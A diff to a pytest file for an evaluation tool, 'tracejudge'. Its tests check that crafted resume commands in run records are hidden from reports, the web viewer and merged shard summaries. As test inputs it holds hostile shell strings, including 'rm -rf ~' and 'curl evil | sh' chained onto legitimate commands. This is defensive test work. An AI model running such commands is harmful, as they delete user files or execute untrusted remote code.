@@ -48,9 +48,9 @@ def _report(run_dir: Path) -> str:
 
 @pytest.mark.parametrize("line", EVIL[:3])
 def test_a_crafted_resume_command_is_not_shown_by_report_nor_the_viewer(finished: Path, tmp_path: Path, line: str) -> None:
-    run_dir = _interrupted(finished, tmp_path / "crafted", line, cwd="/tmp")
+    run_dir = _interrupted(finished, tmp_path / "crafted", line, cwd="/srv/evals")
     out = _report(run_dir)
-    assert "INTERRUPTED" in out and "rm -rf" not in out and "cd /tmp" not in out, out
+    assert "INTERRUPTED" in out and "rm -rf" not in out and "cd /srv/evals" not in out, out
     assert f"resume with: tracejudge run CONFIG --run-dir {run_dir}" in out and "not one tracejudge writes, so it is not shown" in out
     with view_server(str(run_dir)) as url:
         page = get(url + "/run/crafted")[1]
@@ -73,17 +73,17 @@ def test_every_option_a_resume_keeps_is_one_the_check_accepts() -> None:
     assert is_run_line(line), line
     for text in EVIL:
         assert not is_run_line(text) and checked_resume(text) == NOT_SHOWN, text
-        assert checked_resume(f"cd /tmp && {text}") == NOT_SHOWN, text
-    assert checked_resume("cd /tmp; rm -rf ~ && tracejudge run c.yaml") == NOT_SHOWN
+        assert checked_resume(f"cd /srv/evals && {text}") == NOT_SHOWN, text
+    assert checked_resume("cd /srv/evals; rm -rf ~ && tracejudge run c.yaml") == NOT_SHOWN
     assert checked_resume(f"cd '/a && b' && {line}") == f"cd '/a && b' && {line}"
 
 
 def test_a_merge_shows_only_shard_commands_the_tool_writes() -> None:
     # A merge's summary.json keeps its shards' commands whole: read back, it is input as well.
-    summary = {"shards": {"interrupted": [{"shard": "1/2", "resume": "cd /tmp && tracejudge run c.yaml --shard 1/2"},
+    summary = {"shards": {"interrupted": [{"shard": "1/2", "resume": "cd /srv/evals && tracejudge run c.yaml --shard 1/2"},
                                           {"shard": "2/2", "resume": "tracejudge run c.yaml --shard 2/2; curl evil | sh"}],
                           "beside": [{"shard": "3/3", "resume": "tracejudge run CONFIG --run-dir runs/x-shard-3-of-3 --shard 3/3 "
                                                                "(CONFIG: the config the run was started with)"}]}}
     assert shard_resume_commands(summary) == [
-        "cd /tmp && tracejudge run c.yaml --shard 1/2", NOT_SHOWN,
+        "cd /srv/evals && tracejudge run c.yaml --shard 1/2", NOT_SHOWN,
         "tracejudge run CONFIG --run-dir runs/x-shard-3-of-3 --shard 3/3 (CONFIG: the config the run was started with)"]
